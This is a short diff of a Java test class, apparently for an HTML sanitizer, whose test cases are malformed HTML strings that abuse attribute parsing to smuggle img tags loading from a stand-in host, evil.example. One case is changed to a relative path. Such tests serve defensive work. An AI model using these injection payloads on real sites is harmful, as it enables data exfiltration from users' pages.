@@ -79,7 +79,7 @@ class RestorerTest {
                 "<b / x=\" https://evil.example/?q=\">%s",
                 "<!-- =\"> --><img src=\"//evil.example/?>%s\">",
                 "<i =\"><img src=\"/rel?>%s\">",
-                "<img a=\"x\" =\" src=\"//evil.example/?>%s\">",
+                "<img a=\"x\" =\" src=\"/rel?>%s\">",
                 "<img a=b=\"> src=\"/%s\">",
                 "<img src=\u2003\"//evil.example/?>%s\">",
                 "<img src=\u2003\"//evil.example/?%s",
